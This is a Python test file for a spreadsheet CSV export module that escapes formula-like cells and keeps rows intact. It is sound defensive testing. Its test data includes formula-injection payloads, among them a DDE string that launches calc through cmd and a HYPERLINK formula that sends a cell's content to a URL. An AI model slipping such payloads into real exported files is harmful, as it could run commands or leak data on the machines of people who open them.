"""A table for spreadsheets: read back as it was, and never run."""

import csv
from io import StringIO

import pytest

from neighbourhood.foundation.outside.sheets import safe, sheet

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org?"&A1;"ici")',
    "=cmd|' /C calc'!A0",
    "+33612345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1",
]
HARMLESS = ["Karima B.", "a=b", "l’été", "'déjà", "", "3 - 2", "karima@example.org", "«=1»"]


def read_back(data):
    assert data.startswith(b"\xef\xbb\xbf"), "a French Excel needs the mark"
    text = data.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_begins_like_a_formula_is_shown(cell):
    assert safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert safe(cell) == cell


@pytest.mark.parametrize("number", [0, 7, -7])
def test_a_number_of_ours_stays_a_number(number):
    assert safe(number) == number


@pytest.mark.parametrize("nasty", [*FORMULAS, '";=1+1;"', "a;=1+1", "a\r\n=1+1", 'a"\n;=1;"'])
def test_no_cell_breaks_out_of_its_place(nasty):
    rows = read_back(sheet(["=Nom", "Quartier"], [(nasty, "Tanneurs"), ("Karima", nasty)]))
    shape = [len(row) for row in rows]
    assert shape == [2, 2, 2]
    assert rows[0] == ["'=Nom", "Quartier"]
    assert rows[1] == [safe(nasty), "Tanneurs"]
    assert rows[2] == ["Karima", safe(nasty)]


def test_nothing_is_an_empty_cell():
    assert read_back(sheet(["Nom", "Âge"], [(None, 3)])) == [["Nom", "Âge"], ["", "3"]]
